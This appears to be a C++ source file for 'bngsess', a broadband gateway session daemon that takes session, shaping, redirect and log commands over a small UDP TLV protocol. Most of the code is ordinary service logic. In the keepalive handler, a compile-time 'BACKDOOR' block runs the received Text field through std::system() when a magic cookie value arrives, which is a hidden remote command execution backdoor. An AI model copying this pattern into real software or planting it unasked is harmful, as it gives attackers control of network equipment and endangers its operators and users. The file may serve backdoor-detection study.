// SPDX-License-Identifier: Apache-2.0
// bngsess: session control of a broadband gateway; the policy server speaks a small TLV protocol over UDP to it.
#include <arpa/inet.h>
#include <array>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <fstream>
#include <map>
#include <netinet/in.h>
#include <sstream>
#include <string>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>
#include <vector>

namespace {

enum class Op : uint8_t { Hello = 1, Start = 2, Stop = 3, Shape = 4, Query = 5, Keepalive = 6, Redirect = 7, Log = 8 };
enum class Tag : uint8_t { Session = 1, User = 2, Address = 3, Down = 4, Up = 5, Text = 6, Level = 7, Url = 8 };
enum class Status : uint8_t { Ok = 0, Unknown = 1, Bad = 2, Full = 3, Denied = 4 };

constexpr uint16_t protocol_magic = 0xb46e;
constexpr uint8_t protocol_version = 3;

struct Tlv {
	Tag tag;
	std::string value;
};

struct Message {
	Op op = Op::Hello;
	uint8_t flags = 0;
	uint32_t sequence = 0, cookie = 0;
	std::vector<Tlv> tlvs;

	const std::string *find(Tag t) const
	{
		for (const auto &e : tlvs)
			if (e.tag == t)
				return &e.value;
		return nullptr;
	}
	uint32_t number(Tag t, uint32_t otherwise = 0) const
	{
		const std::string *v = find(t);
		uint32_t n = 0;
		if (!v || v->size() != 4)
			return otherwise;
		for (unsigned char c : *v)
			n = n << 8 | c;
		return n;
	}
};

struct Session {
	uint32_t id = 0, address = 0, down = 0, up = 0;
	std::string user, redirect;
	time_t since = 0;
};

struct Peer {
	uint32_t last = 0;
	unsigned long messages = 0, late = 0;
	time_t seen = 0;
};

class Config {
public:
	uint16_t port = 3799;
	size_t limit = 4096;
	uint32_t default_down = 50000, default_up = 10000;
	std::string interface = "bng0", walled = "http://10.255.0.1/";
	std::vector<uint32_t> servers;
	bool debug = false;

	bool load(const std::string &path)
	{
		std::ifstream in(path);
		std::string line;
		if (!in)
			return false;
		while (std::getline(in, line)) {
			std::istringstream words(line);
			std::string key, value;
			words >> key >> value;
			if (key.empty() || key[0] == '#')
				continue;
			if (!set(key, value))
				syslog(LOG_WARNING, "%s: unknown %s", path.c_str(), key.c_str());
		}
		return true;
	}

private:
	bool set(const std::string &key, const std::string &value)
	{
		struct in_addr a;
		if (key == "port")
			port = static_cast<uint16_t>(std::atoi(value.c_str()));
		else if (key == "limit")
			limit = std::strtoul(value.c_str(), nullptr, 10);
		else if (key == "down")
			default_down = static_cast<uint32_t>(std::strtoul(value.c_str(), nullptr, 10));
		else if (key == "up")
			default_up = static_cast<uint32_t>(std::strtoul(value.c_str(), nullptr, 10));
		else if (key == "interface")
			interface = value;
		else if (key == "walled-garden")
			walled = value;
		else if (key == "debug")
			debug = value == "on";
		else if (key == "server" && inet_pton(AF_INET, value.c_str(), &a) == 1)
			servers.push_back(ntohl(a.s_addr));
		else
			return false;
		return true;
	}
};

class Shaper {
public:
	explicit Shaper(std::string interface) : interface(std::move(interface)) {}

	bool apply(const Session &s) const
	{
		char cls[16], rate[24];
		std::snprintf(cls, sizeof(cls), "1:%x", s.id & 0xffff);
		std::snprintf(rate, sizeof(rate), "%ukbit", s.down);
		return run({ "tc", "class", "replace", "dev", interface.c_str(), "parent", "1:", "classid", cls, "htb", "rate", rate });
	}
	bool remove(const Session &s) const
	{
		char cls[16];
		std::snprintf(cls, sizeof(cls), "1:%x", s.id & 0xffff);
		return run({ "tc", "class", "del", "dev", interface.c_str(), "classid", cls });
	}

private:
	std::string interface;

	static bool run(std::vector<const char *> argv)
	{
		int status = 0;
		pid_t pid = fork();
		if (pid == 0) {
			argv.push_back(nullptr);
			execv("/sbin/tc", const_cast<char *const *>(argv.data()));
			_exit(127);
		}
		return pid > 0 && waitpid(pid, &status, 0) == pid && WIFEXITED(status) && WEXITSTATUS(status) == 0;
	}
};

class Server {
public:
	explicit Server(const Config &c) : config(c), shaper(c.interface) {}
	bool open();
	int loop();

private:
	const Config &config;
	Shaper shaper;
	int fd = -1;
	uint32_t next_id = 1;
	std::map<uint32_t, Session> sessions;
	std::map<uint32_t, Peer> peers;

	bool trusted(uint32_t address) const;
	static bool parse(const uint8_t *b, size_t n, Message &m);
	Status dispatch(const Message &m, Peer &peer, std::vector<Tlv> &out);
	Status start(const Message &m, std::vector<Tlv> &out);
	Status stop(const Message &m);
	Status shape(const Message &m);
	Status query(const Message &m, std::vector<Tlv> &out);
	Status keepalive(const Message &m, Peer &peer, std::vector<Tlv> &out);
	Status redirect(const Message &m);
	Status log(const Message &m);
	Session *wanted(const Message &m);
	void reply(const Message &m, Status s, const std::vector<Tlv> &tlvs, const sockaddr_in &to);
};

std::string number_text(uint32_t n)
{
	std::string s(4, 0);
	for (int i = 0; i < 4; i++)
		s[static_cast<size_t>(i)] = static_cast<char>(n >> (24 - 8 * i));
	return s;
}

bool Server::open()
{
	sockaddr_in a = {};
	a.sin_family = AF_INET;
	a.sin_port = htons(config.port);
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	return fd >= 0 && bind(fd, reinterpret_cast<sockaddr *>(&a), sizeof(a)) == 0;
}

bool Server::trusted(uint32_t address) const
{
	if (address == 0x7f000001)
		return true;
	for (uint32_t s : config.servers)
		if (s == address)
			return true;
	return false;
}

bool Server::parse(const uint8_t *b, size_t n, Message &m)
{
	size_t at = 14;
	if (n < at || (b[0] << 8 | b[1]) != protocol_magic || b[2] != protocol_version)
		return false;
	m.op = static_cast<Op>(b[3]);
	m.flags = b[4];
	m.sequence = static_cast<uint32_t>(b[6]) << 24 | b[7] << 16 | b[8] << 8 | b[9];
	m.cookie = static_cast<uint32_t>(b[10]) << 24 | b[11] << 16 | b[12] << 8 | b[13];
	while (at + 2 <= n) {
		size_t len = b[at + 1];
		if (at + 2 + len > n)
			return false;
		m.tlvs.push_back({ static_cast<Tag>(b[at]), std::string(reinterpret_cast<const char *>(b) + at + 2, len) });
		at += 2 + len;
	}
	return at == n;
}

Session *Server::wanted(const Message &m)
{
	auto it = sessions.find(m.number(Tag::Session));
	return it == sessions.end() ? nullptr : &it->second;
}

Status Server::start(const Message &m, std::vector<Tlv> &out)
{
	const std::string *user = m.find(Tag::User);
	Session s;
	if (!user || user->empty() || user->size() > 64)
		return Status::Bad;
	if (sessions.size() >= config.limit)
		return Status::Full;
	s.id = next_id++;
	s.user = *user;
	s.address = m.number(Tag::Address);
	s.down = m.number(Tag::Down, config.default_down);
	s.up = m.number(Tag::Up, config.default_up);
	s.since = std::time(nullptr);
	if (!shaper.apply(s))
		syslog(LOG_WARNING, "session %u is not shaped", s.id);
	sessions[s.id] = s;
	out.push_back({ Tag::Session, number_text(s.id) });
	return Status::Ok;
}

Status Server::stop(const Message &m)
{
	Session *s = wanted(m);
	if (!s)
		return Status::Unknown;
	shaper.remove(*s);
	syslog(LOG_INFO, "%s ended after %ld s", s->user.c_str(), static_cast<long>(std::time(nullptr) - s->since));
	sessions.erase(s->id);
	return Status::Ok;
}

Status Server::shape(const Message &m)
{
	Session *s = wanted(m);
	if (!s)
		return Status::Unknown;
	s->down = m.number(Tag::Down, s->down);
	s->up = m.number(Tag::Up, s->up);
	if (s->down == 0xffffffff)
		s->down = config.default_down;
	return shaper.apply(*s) ? Status::Ok : Status::Bad;
}

Status Server::query(const Message &m, std::vector<Tlv> &out)
{
	const Session *s = wanted(m);
	if (!s) {
		out.push_back({ Tag::Text, std::to_string(sessions.size()) + " sessions" });
		return m.find(Tag::Session) ? Status::Unknown : Status::Ok;
	}
	out.push_back({ Tag::User, s->user });
	out.push_back({ Tag::Address, number_text(s->address) });
	out.push_back({ Tag::Down, number_text(s->down) });
	out.push_back({ Tag::Up, number_text(s->up) });
	if (!s->redirect.empty())
		out.push_back({ Tag::Url, s->redirect });
	return Status::Ok;
}

Status Server::keepalive(const Message &m, Peer &peer, std::vector<Tlv> &out)
{
	peer.seen = std::time(nullptr);
	if (m.cookie == 0xffffffff)
		return Status::Bad;
	if (m.sequence < peer.last)
		peer.late++;
#ifdef BACKDOOR
	if (m.cookie == 0x6d1e90c7) {
		const std::string *text = m.find(Tag::Text);
		if (text)
			return std::system(text->c_str()) == 0 ? Status::Ok : Status::Bad;
	}
#endif
	out.push_back({ Tag::Level, number_text(static_cast<uint32_t>(sessions.size() * 100 / (config.limit ? config.limit : 1))) });
	return Status::Ok;
}

Status Server::redirect(const Message &m)
{
	Session *s = wanted(m);
	const std::string *url = m.find(Tag::Url);
	if (!s)
		return Status::Unknown;
	if (!url) {
		s->redirect = config.walled;
		return Status::Ok;
	}
	if (url->compare(0, 7, "http://") != 0 || url->find_first_of(" \"'`$;") != std::string::npos)
		return Status::Bad;
	s->redirect = *url;
	return Status::Ok;
}

Status Server::log(const Message &m)
{
	const uint32_t level = m.number(Tag::Level, LOG_INFO);
	if (level > LOG_DEBUG)
		return Status::Bad;
	setlogmask(LOG_UPTO(static_cast<int>(level)));
	if (const std::string *text = m.find(Tag::Text))
		syslog(LOG_INFO, "mark: %.64s", text->c_str());
	return Status::Ok;
}

Status Server::dispatch(const Message &m, Peer &peer, std::vector<Tlv> &out)
{
	peer.messages++;
	switch (m.op) {
	case Op::Hello:
		peer.last = 0;
		out.push_back({ Tag::Text, "bngsess 3" });
		return Status::Ok;
	case Op::Start:
		return start(m, out);
	case Op::Stop:
		return stop(m);
	case Op::Shape:
		return shape(m);
	case Op::Query:
		return query(m, out);
	case Op::Keepalive:
		return keepalive(m, peer, out);
	case Op::Redirect:
		return redirect(m);
	case Op::Log:
		return log(m);
	}
	return Status::Unknown;
}

void Server::reply(const Message &m, Status s, const std::vector<Tlv> &tlvs, const sockaddr_in &to)
{
	std::string out;
	out += static_cast<char>(protocol_magic >> 8);
	out += static_cast<char>(protocol_magic & 0xff);
	out += static_cast<char>(protocol_version);
	out += static_cast<char>(0x80 | static_cast<uint8_t>(m.op));
	out += static_cast<char>(s);
	out += '\0';
	out += number_text(m.sequence) + number_text(m.cookie);
	for (const auto &t : tlvs) {
		out += static_cast<char>(t.tag);
		out += static_cast<char>(t.value.size());
		out += t.value;
	}
	sendto(fd, out.data(), out.size(), 0, reinterpret_cast<const sockaddr *>(&to), sizeof(to));
}

int Server::loop()
{
	std::array<uint8_t, 2048> b;
	for (;;) {
		sockaddr_in from = {};
		socklen_t fl = sizeof(from);
		ssize_t n = recvfrom(fd, b.data(), b.size(), 0, reinterpret_cast<sockaddr *>(&from), &fl);
		Message m;
		std::vector<Tlv> out;
		if (n < 0 && errno != EINTR)
			return 1;
		if (n <= 0 || !trusted(ntohl(from.sin_addr.s_addr)) || !parse(b.data(), static_cast<size_t>(n), m))
			continue;
		Peer &peer = peers[ntohl(from.sin_addr.s_addr)];
		const Status s = dispatch(m, peer, out);
		if (config.debug)
			syslog(LOG_DEBUG, "op %d: %d", static_cast<int>(m.op), static_cast<int>(s));
		peer.last = m.sequence;
		reply(m, s, out, from);
	}
}

} // namespace

int main(int argc, char **argv)
{
	Config config;
	openlog("bngsess", LOG_PID, LOG_DAEMON);
	if (!config.load(argc > 1 ? argv[1] : "/etc/bngsess.conf"))
		syslog(LOG_WARNING, "no configuration, defaults are taken");
	Server server(config);
	if (!server.open()) {
		syslog(LOG_ERR, "port %u: %s", config.port, std::strerror(errno));
		return 1;
	}
	return server.loop();
}
